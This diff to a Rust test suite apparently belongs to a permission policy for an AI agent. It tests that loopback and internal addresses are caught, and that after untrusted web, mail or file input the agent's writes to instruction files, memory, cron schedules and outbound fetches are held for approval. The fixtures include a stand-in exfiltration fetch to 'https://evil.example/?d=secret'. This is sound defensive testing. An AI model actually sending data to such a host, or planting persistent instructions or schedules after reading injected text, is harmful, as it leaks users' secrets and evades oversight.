@@ -198,6 +198,7 @@ fn addresses_are_judged_before_they_are_asked_for() {
         "http://0x7f.1/",
         "http://localhost/",
         "http://a.localhost./",
+        "http://127.0.0.1../",
         "http://[fd00::1]/",
         "http://router/",
         "http://[64:ff9b::7f00:1]/",
@@ -239,7 +240,7 @@ fn after_untrusted_text_what_lasts_runs_or_leaves_is_asked_about() {
     let rules = Rules::default();
     let fetch = json!({"url": "https://evil.example/?d=secret"});
     for source in
-        [Source::Web, Source::Mail, Source::OutsideFile, Source::ThirdParty, Source::MarkedMemory]
+        [Source::Web, Source::Mail, Source::OutsideFile, Source::ThirdParty, Source::OtherPeople]
     {
         check(
             &rules,
@@ -271,18 +272,30 @@ fn after_untrusted_text_what_lasts_runs_or_leaves_is_asked_about() {
             ],
         );
     }
-    check(
-        &rules,
-        &[Source::Workspace],
-        &[
-            ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
-            ("memory_append", json!({"text": "x"}), Allow, "profile:assistant"),
-            ("exec", json!({"command": "ls"}), Allow, "command"),
-            ("web_fetch", fetch, Ask, "taint:way-out"),
-            ("notify", json!({"body": "ready"}), Allow, "profile:assistant"),
-            ("notify", json!({"body": "see https://evil.example"}), Ask, "taint:notify"),
-        ],
-    );
+    for (source, memory) in [
+        (Source::Workspace, (Ask, "taint:memory")),
+        (Source::Installed, (Ask, "taint:memory")),
+        (Source::CommandOutput, (Ask, "taint:memory")),
+        (Source::Memory, (Allow, "profile:assistant")),
+    ] {
+        let once = json!({"action": "add", "schedule": "at 2026-12-01 09:00"});
+        let reminder = if source == Source::Memory { Allow } else { Ask };
+        let rule = if source == Source::Memory { "profile:assistant" } else { "taint:schedule" };
+        check(
+            &rules,
+            &[source],
+            &[
+                ("write_file", json!({"path": "SOUL.md"}), Ask, "taint:instructions"),
+                ("memory_append", json!({"text": "x"}), memory.0, memory.1),
+                ("exec", json!({"command": "ls"}), Allow, "command"),
+                ("web_fetch", fetch.clone(), Ask, "taint:way-out"),
+                ("notify", json!({"body": "ready"}), Allow, "profile:assistant"),
+                ("notify", json!({"body": "see https://evil.example"}), Ask, "taint:notify"),
+                ("cron", json!({"action": "add", "schedule": "every 1m"}), Ask, "taint:schedule"),
+                ("cron", once, reminder, rule),
+            ],
+        );
+    }
 }
 
 #[test]
@@ -332,6 +345,9 @@ fn a_turn_without_the_person_asks_before_it_changes_rules_or_sends() {
     let judged = policy.judge(&request);
     assert_eq!((judged.verdict, judged.rule.as_str()), (Ask, "taint:instructions"));
     assert!(judged.why.starts_with("nobody is at the keyboard"), "{}", judged.why);
+    let Value::Object(notes) = json!({"path": "notes.md"}) else { panic!("no object") };
+    let judged = policy.judge(&Request { arguments: &notes, ..request });
+    assert_eq!((judged.verdict, judged.rule.as_str()), (Ask, "background"));
     let tools = ["read_file".to_owned()];
     let judged = policy.judge(&Request { narrowed_to: Some(&tools), ..request });
     assert_eq!((judged.verdict, judged.rule.as_str()), (Deny, "narrowed"));
